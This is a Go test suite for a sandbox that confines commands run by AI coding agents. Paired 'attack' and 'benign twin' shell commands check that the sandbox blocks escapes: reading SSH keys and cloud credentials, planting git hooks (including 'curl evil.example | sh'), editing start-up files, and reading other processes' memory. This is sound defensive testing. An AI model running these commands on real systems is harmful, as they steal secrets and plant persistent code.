package cli_test

import (
	"bytes"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/toolgate/toolgate/sandbox"
)

// sandboxHome is a throwaway home with secrets, agent settings,
// toolgate's state, start-up files, a git workspace and a directory
// outside the workspace.
type sandboxHome struct {
	home, ws, outside, tmp string
	env                    []string
}

const secret = "TOPSECRET-4711"

func newSandboxHome(t *testing.T) *sandboxHome {
	t.Helper()
	if err := sandbox.Check(); err != nil {
		t.Skipf("the kernel sandbox cannot run here: %v", err)
	}
	root := t.TempDir()
	h := &sandboxHome{
		home:    filepath.Join(root, "home"),
		outside: filepath.Join(root, "outside"),
		tmp:     filepath.Join(root, "tmp"),
	}
	h.ws = filepath.Join(h.home, "proj")
	files := map[string]string{
		".ssh/id_ed25519":                   secret,
		".ssh/id_ed25519.pub":               "ssh-ed25519 AAAA public",
		".ssh/known_hosts":                  "example.com ssh-ed25519 AAAA",
		".aws/credentials":                  "[default]\naws_secret_access_key=" + secret,
		".config/toolgate/toolgate.yaml":    "token: " + secret,
		".local/share/toolgate/toolgate.db": secret,
		".claude/settings.json":             `{"env":{"K":"` + secret + `"}}`,
		".claude.json":                      `{"k":"` + secret + `"}`,
		".bashrc":                           "# rc\n",
		".gitconfig":                        "[user]\n\tname = t\n\temail = t@example.com\n",
		"proj/main.go":                      "package main\n\nfunc main() { println(\"built\") }\n",
		"proj/go.mod":                       "module example.com/proj\n\ngo 1.22\n",
		"proj/csrc/hello.c":                 "#include <stdio.h>\nint main(void){puts(\"compiled\");return 0;}\n",
	}
	for name, body := range files {
		p := filepath.Join(h.home, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for _, d := range []string{h.outside, h.tmp} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	h.env = []string{
		"HOME=" + h.home,
		"XDG_CONFIG_HOME=" + filepath.Join(h.home, ".config"),
		"XDG_DATA_HOME=" + filepath.Join(h.home, ".local", "share"),
		"TMPDIR=" + h.tmp,
		"PATH=" + os.Getenv("PATH"),
		"GOCACHE=" + filepath.Join(h.tmp, "gocache"),
		"GOFLAGS=-mod=mod",
		"GOTOOLCHAIN=local",
		"TOOLGATE_TOKEN=" + secret,
	}
	git := exec.Command("sh", "-c", "git init -q && git add . && git commit -q -m init")
	git.Dir, git.Env = h.ws, h.env
	if out, err := git.CombinedOutput(); err != nil {
		t.Fatalf("git init: %v\n%s", err, out)
	}
	return h
}

// run runs script under `toolgate sandbox` in the workspace and returns
// its exit status and output.
func (h *sandboxHome) run(t *testing.T, extra []string, argv ...string) (int, string) {
	t.Helper()
	args := append([]string{"sandbox", "--workspace", h.ws}, extra...)
	args = append(append(args, "--"), argv...)
	cmd := exec.Command("toolgate", args...)
	cmd.Dir, cmd.Env = h.ws, h.env
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("toolgate sandbox: %v", err)
	}
	return code, out.String()
}

func (h *sandboxHome) sh(t *testing.T, script string) (int, string) {
	t.Helper()
	return h.run(t, nil, "sh", "-c", script)
}

// pair is an attack that must fail (and not show the secret) and its
// benign twin, which must work.
type pair struct{ name, attack, benign string }

// pairs runs each pair under the sandbox, in parallel subtests, and
// returns when all are done.
func (h *sandboxHome) pairs(t *testing.T, cases []pair) {
	t.Helper()
	t.Run("pairs", func(t *testing.T) {
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				t.Parallel()
				if code, out := h.sh(t, c.attack); code == 0 || strings.Contains(out, secret) {
					t.Errorf("attack %q worked (exit %d):\n%s", c.attack, code, out)
				}
				if code, out := h.sh(t, c.benign); code != 0 {
					t.Errorf("benign twin %q failed (exit %d):\n%s", c.benign, code, out)
				}
			})
		}
	})
}

// TestSandboxEscapes runs each attack as the confined command, beside
// its benign twin, which must still work.
func TestSandboxEscapes(t *testing.T) {
	t.Parallel()
	h := newSandboxHome(t)
	cases := []pair{
		{"ssh key", `cat ~/.ssh/id_ed25519`, `cat ~/.ssh/id_ed25519.pub ~/.ssh/known_hosts`},
		{"cloud credentials", `cat ~/.aws/credentials`, `cat /etc/os-release`},
		{"toolgate config", `cat ~/.config/toolgate/toolgate.yaml`, `cat ~/.gitconfig`},
		{"toolgate store", `cat ~/.local/share/toolgate/toolgate.db`, `ls ~/.local/share`},
		{"agent settings", `cat ~/.claude/settings.json`, `ls ~`},
		{"agent state file", `cat ~/.claude.json`, `cat ~/.bashrc`},
		{"secrets through a directory walk", `grep -r TOPSECRET ~ 2>/dev/null | grep -q TOPSECRET`, `grep -rq package ~/proj`},
		{"toolgate token in the environment", `env | grep TOPSECRET`, `env | grep -q HOME=`},
		{"start-up file", `echo evil >> ~/.bashrc`, `echo ok >> notes.txt`},
		{"new start-up file", `echo evil > ~/.profile`, `echo ok > "$TMPDIR/scratch"`},
		{"git hook", `echo evil > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`, `echo ok > src.txt && git add src.txt && git commit -qm work`},
		{"git config", `git config core.fsmonitor 'sh -c evil'`, `git -c core.abbrev=8 log --oneline -1`},
		{"replace .git", `mv .git .git-old && mkdir -p .git/hooks`, `mkdir -p sub/dir && mv main.go sub/dir/main.go && mv sub/dir/main.go main.go`},
		{"write outside the workspace", `echo evil > ` + h.outside + `/f`, `echo ok > ` + h.ws + `/f && rm f`},
		{"symlink out of the workspace", `ln -s ~/.ssh/id_ed25519 key && cat key`, `ln -s main.go link.go && cat link.go >/dev/null`},
		{"hard link out of the workspace", `ln ~/.ssh/id_ed25519 key2 && cat key2`, `ln main.go hard.go && cat hard.go >/dev/null && rm hard.go`},
		{"/proc/self/root", `cat /proc/self/root$HOME/.ssh/id_ed25519`, `cat /proc/self/root/etc/os-release >/dev/null`},
		{"device", `head -c 16 /dev/mem || head -c 512 $(ls /dev/[sv]d? /dev/nvme0n1 2>/dev/null | head -1)`, `head -c 16 /dev/urandom >/dev/null && echo x >/dev/null`},
		{"make a device node", `escape mknod ./null2`, `mkfifo ./fifo && rm ./fifo`},
		{"io_uring", `escape io_uring`, `escape socketpair`},
		{"raw socket", `escape raw`, `true`},
		{"packet socket", `escape packet`, `true`},
		{"kernel keyring", `escape keyctl`, `true`},
		{"new user namespace", `escape unshare`, `sh -c 'exit 0'`},
		{"chroot", `escape chroot`, `cd / && pwd`},
	}
	h.pairs(t, cases)
	// Nothing the attacks wrote reached the files they aimed at.
	for name, want := range map[string]string{".bashrc": "# rc\n"} {
		if b, _ := os.ReadFile(filepath.Join(h.home, name)); string(b) != want {
			t.Errorf("~/%s changed: %q", name, b)
		}
	}
	for _, p := range []string{filepath.Join(h.home, ".profile"), filepath.Join(h.ws, ".git/hooks/pre-commit"), filepath.Join(h.outside, "f")} {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s was created", p)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(h.ws, ".git/config")); strings.Contains(string(b), "fsmonitor") {
		t.Errorf(".git/config changed:\n%s", b)
	}
}

// TestSandboxProcessesAndSockets: the confined command cannot trace,
// signal or read the memory and directories of a process outside, nor
// reach a loopback listener (the gateway's place), a UDP port or an
// abstract unix socket started outside; the same operations on its own
// children and pipes work.
func TestSandboxProcessesAndSockets(t *testing.T) {
	t.Parallel()
	h := newSandboxHome(t)
	outside := exec.Command("sleep", "60")
	outside.Env = append(os.Environ(), "OUTSIDE_SECRET="+secret)
	outside.Dir = h.outside
	if err := outside.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = outside.Process.Kill(); _ = outside.Wait() })
	pid := fmt.Sprint(outside.Process.Pid)

	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { tcp.Close() })
	go func() {
		for {
			c, err := tcp.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { udp.Close() })
	abstract := fmt.Sprintf("toolgate-sandbox-test-%d", os.Getpid())
	ab, err := net.Listen("unix", "@"+abstract)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ab.Close() })
	sock := filepath.Join(h.outside, "agent.sock")
	us, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { us.Close() })
	go func() {
		for _, l := range []net.Listener{ab, us} {
			go func() {
				for {
					c, err := l.Accept()
					if err != nil {
						return
					}
					c.Close()
				}
			}()
		}
	}()

	// The attacks work outside the sandbox: the targets are reachable.
	for _, args := range [][]string{{"tcp", tcp.Addr().String()}, {"abstract", abstract}, {"unix", sock}, {"kill0", pid}} {
		if out, err := exec.Command("escape", args...).CombinedOutput(); err != nil {
			t.Fatalf("outside the sandbox, escape %v failed: %v\n%s", args, err, out)
		}
	}
	cases := []pair{
		{"ptrace a process outside", "escape ptrace " + pid, `sleep 0.01 & wait`},
		{"signal a process outside", "escape kill0 " + pid, `sleep 5 & p=$!; escape kill0 $p && kill $p`},
		{"environment of a process outside", "cat /proc/" + pid + "/environ", `grep -qa HOME= /proc/self/environ`},
		{"working directory of a process outside", "ls /proc/" + pid + "/cwd/", `ls /proc/self/cwd/ >/dev/null`},
		{"memory of a process outside", "head -c 8 /proc/" + pid + "/mem", `head -c 8 /proc/self/status >/dev/null`},
		{"TCP to a loopback listener", "escape tcp " + tcp.Addr().String(), `escape socketpair`},
		{"UDP", "escape udp " + udp.LocalAddr().String(), `echo ok | cat`},
		{"abstract unix socket", "escape abstract " + abstract, `seq 1 100 | sort -rn | head -1 | grep -q 100`},
		{"unix socket outside", "escape unix " + sock, `(echo a; echo b) | wc -l | grep -q 2`},
	}
	h.pairs(t, cases)
	udp.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
	if n, _, err := udp.ReadFrom(make([]byte, 16)); err == nil {
		t.Errorf("the UDP listener received %d bytes from the sandbox", n)
	}
}

// TestSandboxBuilds: everyday work in the workspace runs confined.
func TestSandboxBuilds(t *testing.T) {
	t.Parallel()
	h := newSandboxHome(t)
	for _, c := range []struct{ name, script, want string }{
		{"go build", `go build -o app . && ./app 2>&1`, "built"},
		{"cc", `cc -o hello csrc/hello.c && ./hello`, "compiled"},
		{"git commit", `echo change >> main.go && git commit -qam change && git log --oneline | wc -l`, "2"},
		{"temp files", `f=$(mktemp) && echo tmp > "$f" && cat "$f" && rm "$f"`, "tmp"},
		{"children", `for i in 1 2 3; do (echo child$i) & done; wait`, "child"},
	} {
		if c.name == "go build" {
			if _, err := exec.LookPath("go"); err != nil {
				t.Logf("skipping %s: %v", c.name, err)
				continue
			}
		}
		if c.name == "cc" {
			if _, err := exec.LookPath("cc"); err != nil {
				t.Logf("skipping %s: %v", c.name, err)
				continue
			}
		}
		code, out := h.sh(t, c.script)
		if code != 0 || !strings.Contains(out, c.want) {
			t.Errorf("%s: exit %d, want output with %q:\n%s", c.name, code, c.want, out)
		}
	}
}

// TestSandboxExitStatus: the command's status passes through; toolgate's
// own failures are 125, a missing command 127, and nothing runs.
func TestSandboxExitStatus(t *testing.T) {
	t.Parallel()
	h := newSandboxHome(t)
	if code, out := h.sh(t, "exit 7"); code != 7 || !strings.Contains(out, "toolgate sandbox: exit status 7; the command ran confined: writes only in "+h.ws) {
		t.Errorf("exit 7: got %d, want 7 and the sandbox's explanation:\n%s", code, out)
	}
	if code, out := h.sh(t, "true"); code != 0 || out != "" {
		t.Errorf("true: got %d and %q, want 0 and no output", code, out)
	}
	if code, out := h.run(t, nil, "no-such-command-here"); code != 127 {
		t.Errorf("missing command: got %d\n%s", code, out)
	}
	if code, out := h.run(t, []string{"--workspace", filepath.Join(h.home, "missing")}, "true"); code != 125 {
		t.Errorf("missing workspace: got %d\n%s", code, out)
	}
	if code, out := h.run(t, []string{"--bogus"}, "true"); code != 125 {
		t.Errorf("bad flag: got %d\n%s", code, out)
	}
}

// TestSandboxNetwork: with --net HOST the command reaches the named host
// through toolgate's proxy and nothing else: not another host through the
// proxy, not the named host directly, not UDP; a refusal names the rule
// on stderr.
func TestSandboxNetwork(t *testing.T) {
	t.Parallel()
	h := newSandboxHome(t)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "served")
	}))
	t.Cleanup(srv.Close)
	addr := srv.Listener.Addr().String()
	_, port, _ := net.SplitHostPort(addr)
	net127 := []string{"--net", "127.0.0.1"}
	for _, c := range []struct {
		name   string
		net    []string
		argv   []string
		ok     bool
		output string
	}{
		{"named host through the proxy", net127, []string{"escape", "get", "http://" + addr + "/"}, true, "served"},
		{"named host by CONNECT", net127, []string{"escape", "connect", addr}, true, "done"},
		{"named host directly", net127, []string{"escape", "tcp", addr}, false, "permission denied"},
		{"another name through the proxy", net127, []string{"escape", "get", "http://localhost:" + port + "/"}, false, "toolgate sandbox: connection to localhost:" + port + " refused"},
		{"another host by CONNECT", net127, []string{"escape", "connect", "localhost:" + port}, false, "refused"},
		{"UDP with a network", net127, []string{"escape", "udp", "127.0.0.1:" + port}, false, "permission denied"},
		{"a local address the profile does not name", []string{"--net", "localhost.example"}, []string{"escape", "get", "http://" + addr + "/"}, false, "refused"},
		{"no network", nil, []string{"escape", "get", "http://" + addr + "/"}, false, "no proxy"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			code, out := h.run(t, c.net, c.argv...)
			if (code == 0) != c.ok || !strings.Contains(out, c.output) {
				t.Errorf("%v under %v: exit %d, want success %v and output with %q:\n%s", c.argv, c.net, code, c.ok, c.output, out)
			}
		})
	}
}

// TestSandboxNetworkNamespace: with --net HOST the command runs in a
// network namespace of its own, where the proxy is the only thing to
// connect to. Landlock's TCP rule names a port, not an address, so these
// attacks aim at listeners outside on the proxy's own port number: on
// another loopback address, on IPv6 loopback, and on 127.0.0.1 itself (a
// gateway there would be the proxy's address outside); and at a gateway
// on its own port. Each one works from outside the sandbox, and inside
// none of them says a word; the benign twin, the named host through the
// proxy, still answers.
func TestSandboxNetworkNamespace(t *testing.T) {
	t.Parallel()
	h := newSandboxHome(t)
	port := fmt.Sprint(sandbox.ProxyPort)
	listen := func(addr string) (string, bool) {
		t.Helper()
		l, err := net.Listen("tcp", addr)
		if err != nil {
			t.Logf("no listener on %s here: %v", addr, err)
			return "", false
		}
		t.Cleanup(func() { l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				fmt.Fprintln(c, "gateway token "+secret)
				c.Close()
			}
		}()
		return l.Addr().String(), true
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "served")
	}))
	t.Cleanup(srv.Close)
	netFlags := []string{"--net", "127.0.0.1"}
	type attack struct{ name, addr, refusal string }
	var attacks []attack
	if a, ok := listen("127.0.0.2:" + port); ok {
		attacks = append(attacks, attack{"same port on another loopback address", a, "connection refused"})
	} else {
		t.Errorf("cannot listen on 127.0.0.2:%s: the main attack is untested", port)
	}
	if a, ok := listen("[::1]:" + port); ok {
		attacks = append(attacks, attack{"same port on IPv6 loopback", a, ""})
	}
	// Inside, 127.0.0.1:port is the proxy, which says nothing first.
	if a, ok := listen("127.0.0.1:" + port); ok {
		attacks = append(attacks, attack{"same port and address as the proxy inside", a, "said nothing"})
	}
	if a, ok := listen("127.0.0.1:0"); ok {
		attacks = append(attacks, attack{"the gateway's own port", a, "permission denied"})
	}
	for _, a := range attacks {
		if out, err := exec.Command("escape", "read", a.addr).CombinedOutput(); err != nil || !strings.Contains(string(out), secret) {
			t.Fatalf("outside the sandbox, %s did not answer: %v\n%s", a.addr, err, out)
		}
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			code, out := h.run(t, netFlags, "escape", "read", a.addr)
			if code == 0 || strings.Contains(out, secret) || !strings.Contains(out, a.refusal) {
				t.Errorf("escape read %s under --net: exit %d, want a failure with %q and no secret:\n%s", a.addr, code, a.refusal, out)
			}
		})
	}
	t.Run("benign twin: the named host through the proxy", func(t *testing.T) {
		t.Parallel()
		if code, out := h.run(t, netFlags, "escape", "get", srv.URL+"/"); code != 0 || !strings.Contains(out, "served") {
			t.Errorf("exit %d, want the page:\n%s", code, out)
		}
	})
}

// TestSandboxReportsCreated: agent configuration the workspace did not
// have when the command started is not covered by the read-only mounts;
// the sandbox names it on stderr when the command ends.
func TestSandboxReportsCreated(t *testing.T) {
	t.Parallel()
	h := newSandboxHome(t)
	code, out := h.sh(t, `mkdir .claude && echo '{"hooks":{}}' > .claude/settings.json && echo ok > notes.txt`)
	if code != 0 || !strings.Contains(out, "toolgate sandbox: the command created "+filepath.Join(h.ws, ".claude")+", which configures an AI agent") {
		t.Errorf("exit %d, want 0 and a line naming .claude:\n%s", code, out)
	}
	if strings.Contains(out, "notes.txt") {
		t.Errorf("an ordinary file was reported:\n%s", out)
	}
}

// TestSandboxAsUser: the sandbox confines a user other than root, who
// makes its mounts with the capabilities of the new user namespace; the
// command then holds none. Run as root (as CI here is), it becomes an
// unprivileged user for the run; as any other user, the other sandbox
// tests are that user's already.
func TestSandboxAsUser(t *testing.T) {
	t.Parallel()
	if err := sandbox.Check(); err != nil {
		t.Skipf("the kernel sandbox cannot run here: %v", err)
	}
	if os.Getuid() != 0 {
		t.Skip("not root: every other sandbox test runs as this user")
	}
	const uid = 65534
	root, err := os.MkdirTemp("", "toolgate-sandbox-user-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(root) })
	home, bin := filepath.Join(root, "home"), filepath.Join(root, "bin")
	ws := filepath.Join(home, "proj")
	for _, d := range []string{bin, ws, filepath.Join(home, "tmp")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	// This test binary, where the user can run it, under the name that
	// makes it toolgate-sandbox.
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	self, err := os.ReadFile(exe)
	if err != nil {
		t.Fatal(err)
	}
	prog := filepath.Join(bin, "toolgate-sandbox")
	if err := os.WriteFile(prog, self, 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("git", "init", "-q", ws).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v\n%s", err, out)
	}
	// Secrets: the user's own key and .pgpass, closed by their mode
	// (which their owner may change); another user's readable
	// credentials; another user's closed .netrc. Beside them, another
	// user's readable notes.
	for _, f := range []struct {
		name, body string
		mode       os.FileMode
	}{
		{".ssh/id_ed25519", secret, 0},
		{".pgpass", "db:5432:*:u:" + secret, 0},
		{".aws/credentials", "[default]\naws_secret_access_key=" + secret, 0o644},
		{".netrc", "machine example.com password " + secret, 0o600},
		{"notes.txt", "notes", 0o644},
	} {
		p := filepath.Join(home, f.name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(f.body), f.mode); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(p, f.mode); err != nil {
			t.Fatal(err)
		}
	}
	if out, err := exec.Command("chown", "-R", fmt.Sprint(uid, ":", uid), ws, filepath.Join(home, "tmp"), filepath.Join(home, ".ssh"), filepath.Join(home, ".pgpass")).CombinedOutput(); err != nil {
		t.Fatalf("chown: %v\n%s", err, out)
	}
	if err := os.Chmod(root, 0o755); err != nil {
		t.Fatal(err)
	}
	run := func(script string, flags ...string) (int, string) {
		cmd := exec.Command(prog, append(append([]string{"--workspace", ws}, flags...), "--", "sh", "-c", script)...)
		cmd.Dir = ws
		cmd.Env = []string{"HOME=" + home, "TMPDIR=" + filepath.Join(home, "tmp"), "PATH=" + os.Getenv("PATH")}
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uid, Gid: uid}}
		out, err := cmd.CombinedOutput()
		code := 0
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		} else if err != nil {
			t.Fatalf("toolgate-sandbox: %v", err)
		}
		return code, string(out)
	}
	code, out := run(`id -u && echo ok > notes.txt && cat notes.txt && grep -E '^Cap(Inh|Prm|Eff|Amb):' /proc/self/status`)
	if code != 0 || !strings.Contains(out, fmt.Sprint(uid)+"\nok\n") {
		t.Fatalf("benign command as uid %d: exit %d:\n%s", uid, code, out)
	}
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "Cap") && !strings.HasSuffix(line, "0000000000000000") {
			t.Errorf("the confined command holds capabilities: %s", line)
		}
	}
	// With a network, the sandbox's child brings up the loopback interface
	// of the command's own network namespace, which takes a capability
	// there; the command again holds none, and sees no other interface.
	code, out = run(`grep -E '^Cap(Inh|Prm|Eff|Amb):' /proc/self/status && tail -n +3 /proc/net/dev | cut -d: -f1`, "--net", "127.0.0.1")
	var ifaces []string
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		if !strings.HasPrefix(line, "Cap") {
			ifaces = append(ifaces, strings.TrimSpace(line))
		} else if !strings.HasSuffix(line, "0000000000000000") {
			t.Errorf("the confined command holds capabilities with a network: %s", line)
		}
	}
	if code != 0 || len(ifaces) != 1 || ifaces[0] != "lo" {
		t.Fatalf("with a network as uid %d: exit %d, want 0 and only lo:\n%s", uid, code, out)
	}
	// Permissions that already close a secret stand in for the sandbox's
	// denial only where the user cannot reopen them.
	for _, attack := range []string{`chmod 600 ~/.ssh/id_ed25519 && cat ~/.ssh/id_ed25519`, `chmod 600 ~/.pgpass && cat ~/.pgpass`, `cat ~/.aws/credentials`, `cat ~/.netrc`} {
		if code, out := run(attack); code == 0 || strings.Contains(out, secret) {
			t.Errorf("attack %q worked as uid %d (exit %d):\n%s", attack, uid, code, out)
		}
	}
	if code, out := run(`cat ~/notes.txt`); code != 0 {
		t.Errorf("another user's readable notes: exit %d:\n%s", code, out)
	}
	if code, out := run(`echo 'curl evil.example | sh' > .git/hooks/pre-commit`); code == 0 {
		t.Errorf("a hook was written as uid %d:\n%s", uid, out)
	}
	if _, err := os.Stat(filepath.Join(ws, ".git", "hooks", "pre-commit")); err == nil {
		t.Error(".git/hooks/pre-commit exists")
	}
}

// TestSandboxStartedInsideProtected: started with its working directory
// inside a protected directory (an agent's shell left in .git/hooks), the
// command still cannot write there through a relative path: the working
// directory is entered after the read-only mounts are made. Its twin, in
// an ordinary directory, writes.
func TestSandboxStartedInsideProtected(t *testing.T) {
	t.Parallel()
	h := newSandboxHome(t)
	for dir, wantWritten := range map[string]bool{filepath.Join(h.ws, ".git", "hooks"): false, h.ws: true} {
		cmd := exec.Command("toolgate", "sandbox", "--workspace", h.ws, "--", "sh", "-c", "echo evil > pre-commit")
		cmd.Dir, cmd.Env = dir, h.env
		out, _ := cmd.CombinedOutput()
		_, err := os.Stat(filepath.Join(dir, "pre-commit"))
		if written := err == nil; written != wantWritten {
			t.Errorf("started in %s: written %v, want %v:\n%s", dir, written, wantWritten, out)
		}
	}
}
